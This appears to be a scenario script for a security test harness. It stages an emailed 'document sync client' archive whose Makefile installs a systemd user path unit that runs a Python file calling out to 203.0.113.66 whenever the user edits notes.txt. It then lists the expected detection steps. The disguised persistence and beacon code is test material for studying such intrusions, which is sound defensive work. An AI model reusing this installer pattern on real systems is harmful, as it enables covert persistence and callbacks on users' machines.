title="A mailed backup helper installs a path unit; a day later saving a file sets it off"
what="dev saves with Evolution's stand-in-free way (munpack of the own Maildir) the archive docsync.7z, unpacks it with 7z and runs make install, which copies two units to ~/.config/systemd/user and a python file to ~/.local/share/docsync; systemctl --user enables the path unit. Next day dev writes a line to ~/notes.txt; the service manager starts python3, which connects to 203.0.113.66."
host=ws3.example.org user=dev daemons="cron sshd" shift_plan="arrive:1h install:1h night:20h later:20m"
setup() {
  mkdir -p "$base/out/d/docsync"
  printf 'import urllib.request as u\nu.urlopen("http://203.0.113.66/ds", data=b"x", timeout=4)\nopen(__import__("os").path.expanduser("~/.docsynced"),"w").close()\n' > "$base/out/d/docsync/sync.py"
  printf '[Path]\nPathChanged=%%h/notes.txt\n[Install]\nWantedBy=default.target\n' > "$base/out/d/docsync/docsync.path"
  printf '[Service]\nType=oneshot\nExecStart=/usr/bin/python3 %%h/.local/share/docsync/sync.py\n' > "$base/out/d/docsync/docsync.service"
  printf 'install:\n\tinstall -D -m 644 sync.py $(HOME)/.local/share/docsync/sync.py\n\tinstall -D -m 644 -t $(HOME)/.config/systemd/user docsync.path docsync.service\n\tsystemctl --user daemon-reload\n\tsystemctl --user enable --now docsync.path\n' > "$base/out/d/docsync/Makefile"
  (cd "$base/out/d" && 7z a -bd ../docsync.7z docsync >/dev/null)
  echo 'monday' > /home/dev/notes.txt; chown dev: /home/dev/notes.txt
}
act() {
  phase arrive
  user_manager dev
  small_talk 1
  mail_in --from docsync@example.net --to dev@example.org --subject "Your document sync client" --source 203.0.113.31 --helo host31.example.net --text "7z x docsync.7z; make -C docsync install\n" --attach "$base/out/docsync.7z:application/x-7z-compressed"
  wait_mail dev 1
  phase install
  ssh_as dev <<'L'
mkdir get && cd get
munpack -q ../Maildir/new/*
7z x -bd docsync.7z
cat docsync/Makefile
make -C docsync install
cd; rm -r get
L
  small_talk 1
  phase night
  small_talk 2
  phase later
  ssh_as dev <<'L'
cat notes.txt
echo tuesday >> notes.txt
%sleep 3
date
L
  wait_file /home/dev/.docsynced 20
  small_talk 1
  user_managers_down
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  exec_step unpack '7z(r|a)? x -bd docsync.7z' 'unpacked'
  exec_step install 'make -C docsync install' 'installed'
  exec_step enable 'systemctl --user enable --now docsync.path' 'enabled'
  exec_step execute 'python3 /home/dev/.local/share/docsync/sync.py' 'the service manager runs it'
  net_step beacon 'python3.* 203.0.113.66:80' 'it calls out'
}
